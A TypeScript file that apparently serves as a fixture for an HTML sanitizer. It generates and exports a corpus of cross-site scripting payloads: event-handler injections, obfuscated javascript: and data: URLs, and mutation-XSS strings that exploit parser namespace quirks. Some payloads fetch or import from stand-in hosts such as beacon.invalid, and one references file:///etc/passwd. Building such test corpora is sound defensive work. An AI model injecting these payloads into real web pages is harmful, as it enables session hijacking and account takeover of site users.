/** Markup that tries to run something: by class of attack, and each class in many spellings. */

const calls = ["alert(1)", "fetch('//beacon.invalid')", "import('//x.invalid')"];
const handlers = "onload onerror onclick onfocus onmouseover onanimationstart ontoggle onpointerenter onbegin onpageshow".split(" ");
const tags =
  "script img svg math iframe object embed video audio body input select textarea keygen marquee details form button style link meta base frameset template noscript xmp plaintext title isindex applet bgsound layer".split(
    " ",
  );
const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "&#0000106&#0000097vascript:alert(1)",
  "jav&Tab;ascript:alert(1)",
  "jav&NewLine;ascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://x.invalid/1",
  "file:///etc/passwd",
  "//beacon.invalid/x",
  "/relative",
  "\\\\beacon.invalid",
  "https:javascript:alert(1)",
  "http://user:pass@beacon.invalid",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "ws://beacon.invalid",
  "ｊavascript:alert(1)",
  "javascript\u00a0:alert(1)",
];
const links = [
  "<a href='§'>x</a>",
  '<a href="§">x</a>',
  "<a href=§>x</a>",
  "<A HREF=`§`>x</A>",
  "<area href='§'>",
  "<form action='§'><button formaction='§'>x",
  "<iframe src='§'>",
  "<object data='§'>",
  "<img src='§'>",
  "<table background='§'><tr><td>x",
  "<svg><a xlink:href='§'><text>x",
  "<math href='§'>x",
  "<base href='§'><a href=x>x</a>",
  "<meta http-equiv=refresh content='0;url=§'>",
];
/** Read one way by a parser and another way once it was written: mutations, foreign content, raw text. */
const mutations = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=§&gt;'>",
  "<svg></p><style><a id='</style><img src=1 onerror=§>'>",
  "<math><annotation-xml encoding='text/html'><style><img src=x onerror=§></style></annotation-xml></math>",
  "<noscript><p title='</noscript><img src=x onerror=§>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
  "<svg><desc><![CDATA[</desc><script>§</script>]]></svg>",
  "<template><template><script>§</script></template><img src=x onerror=§></template>",
  "<p><svg><foreignObject><p><script>§</script></p></foreignObject></svg>",
  "<title><img src=x onerror=§></title><textarea></textarea><script>§</script>",
  "<xmp><p title='</xmp><svg/onload=§>'>",
  "<!--><script>§</script>-->",
  "<!--[if gte IE 4]><script>§</script><![endif]-->",
  "<![CDATA[<script>§</script>]]>",
  "<?xml version='1.0'?><script>§</script>",
  "<!ENTITY x '<script>§</script>'>&x;",
  "<select><option></select><script>§</script>",
  "<table><td><script>§</script></table><a><table><a href=x onclick=§>",
  "<listing>&lt;script&gt;§&lt;/script&gt;</listing>",
  "<image src=x onerror=§>",
  "<p/onclick=§>x<p//onclick=§ />",
  "<<img src=x onerror=§>//<",
  '<img """><script>§</script>">',
  "<img src=x onerror\u0000=§>",
  "<scr\u0000ipt>§</scr\u0000ipt>",
  "<scr<script>ipt>§</scr</script>ipt>",
  "<a href='x' title='\"><script>§</script>'>x</a>",
  "<b style='width:expression(§)'>x</b>",
  "<b style='background:url(javascript:§)'>x</b>",
  "<style>@import 'javascript:§';</style>",
  "<p class=x id=y slot=z is=w data-x=§ aria-label=§ dir=rtl>x</p>",
  "&lt;script&gt;§&lt;/script&gt;",
  "&amp;lt;script&amp;gt;§",
  "{{constructor.constructor('§')()}}",
  "</div></section></main><script>§</script>",
  "<a name=x id=location><a id=attributes name=y>x</a>",
];

const unfinished = (html: string) => [html, html.slice(0, -1), html.replace(/>/g, " >"), html.toUpperCase()];

export const payloads: readonly string[] = [
  ...new Set([
    ...tags.flatMap((tag) => [
      `<${tag}>${calls[0]}</${tag}>`,
      `<${tag} src=x href=x ${handlers[tag.length % handlers.length]}=alert(1)>x`,
      `<${tag}`,
      `</${tag}><script>alert(1)</script>`,
    ]),
    ...handlers.flatMap((handler) => [
      `<p ${handler}=alert(1)>x</p>`,
      `<a href='https://ok.invalid' ${handler}='alert(1)'>x</a>`,
      `<svg/${handler}=alert(1)>`,
      `<td ${handler.toUpperCase()}=alert(1)>x`,
    ]),
    ...links.flatMap((link) => schemes.map((scheme) => link.replaceAll("§", scheme))),
    ...mutations.flatMap((mutation) => calls.flatMap((call) => unfinished(mutation.replaceAll("§", call)))),
  ]),
];
